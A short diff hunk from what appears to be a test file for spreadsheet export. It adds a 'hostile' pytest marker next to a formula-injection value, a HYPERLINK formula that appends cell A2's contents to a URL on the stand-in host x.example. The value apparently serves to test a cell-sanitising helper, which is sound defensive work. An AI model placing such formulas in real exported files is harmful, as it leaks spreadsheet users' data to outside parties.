@@ -17,6 +17,8 @@ from bridge.settings import ConfigurationError, Settings
 from bridge.registry.importer import import_subscriptions
 from bridge.spreadsheet import safe_cell
 
+pytestmark = pytest.mark.hostile
+
 FORMULA = '=HYPERLINK("http://x.example/?"&A2,"open")'
 
 
